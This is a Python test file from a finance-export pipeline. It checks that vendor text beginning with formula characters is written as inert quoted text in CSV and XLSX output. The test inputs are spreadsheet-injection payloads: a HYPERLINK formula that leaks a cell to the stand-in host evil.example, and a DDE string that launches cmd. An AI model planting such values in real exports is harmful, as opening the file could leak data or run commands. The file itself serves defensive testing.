"""Vendor text in the finance pack (an agent's email from Gorgias, a campaign tag) that starts with = + - @
used to become a live formula in the XLSX and in the CSVs. Now it is text in both; money stays numeric."""

from __future__ import annotations

import csv
import shutil
import zipfile
from decimal import Decimal

import duckdb
from openpyxl import load_workbook

from pipeline.close import write_finance_pack

EMAIL = '=HYPERLINK("http://evil.example/?leak="&A1,"click")'
CAMPAIGN = "@SUM(1+1)*cmd|' /C calc'!A0"
TAB = "\t=1+1"


def test_vendor_text_is_inert_in_the_csv_and_the_xlsx_and_money_stays_numeric(tiny_warehouse, tmp_path):
    warehouse = tmp_path / "warehouse.duckdb"
    shutil.copy(tiny_warehouse, warehouse)
    con = duckdb.connect(str(warehouse))
    try:
        month = con.execute("SELECT strftime(max(month), '%Y-%m') FROM marts.agent_performance_monthly").fetchall()[0][
            0
        ]
        con.execute(
            "UPDATE marts.agent_performance_monthly SET agent_email = ?, campaign = ? "
            "WHERE (agent_email, campaign) = (SELECT (agent_email, campaign) FROM marts.agent_performance_monthly "
            "WHERE strftime(month, '%Y-%m') = ? ORDER BY ALL LIMIT 1)",
            [EMAIL, CAMPAIGN, month],
        )
        in_month = "strftime(month, '%Y-%m') = ?"  # the marts' months are DATEs
        con.execute(f"UPDATE marts.cs_pnl_monthly SET line = ? WHERE {in_month} AND line = 'cost_other'", [TAB, month])
        negative = con.execute(f"SELECT count(*) FROM marts.cs_pnl_monthly WHERE {in_month} AND amount < 0", [month])
        assert negative.fetchall()[0][0] > 0, "no negative amount in the month: the test would prove nothing"
        pack = write_finance_pack(month, con, out=tmp_path / "exports")
    finally:
        con.close()

    with open(pack / "agents.csv", newline="") as f:
        agents = list(csv.DictReader(f))
    row = next(r for r in agents if EMAIL in r["agent_email"])
    assert row["agent_email"] == "'" + EMAIL  # OWASP: a leading ' makes the cell text
    assert row["campaign"] == "'" + CAMPAIGN
    with open(pack / "pnl.csv", newline="") as f:
        pnl = list(csv.DictReader(f))
    assert any(r["line"] == "'" + TAB for r in pnl)
    amounts = [r["amount"] for r in pnl]
    assert any(a.startswith("-") for a in amounts), "a negative amount lost its sign or became text"
    assert all(Decimal(a) == Decimal(a) for a in amounts)  # every amount is a plain number

    xlsx = pack / f"cs_finance_pack_{month}.xlsx"
    with zipfile.ZipFile(xlsx) as z:
        sheets = [z.read(n).decode() for n in z.namelist() if n.startswith("xl/worksheets/sheet")]
    assert not any("<f>" in s or "<f " in s for s in sheets), "a formula was written"
    book = load_workbook(xlsx)
    cells = {c.value: c for ws in book for r in ws.iter_rows() for c in r if isinstance(c.value, str)}
    for text in (EMAIL, CAMPAIGN, TAB):
        assert cells[text].data_type == "s", text  # the text as the vendor sent it, in a string cell
        assert cells[text].quotePrefix
    numbers = [c for r in book["pnl"].iter_rows(min_row=2) for c in r[2:3]]
    assert any(c.data_type == "n" and c.value < 0 for c in numbers), "negative money is not numeric in the XLSX"
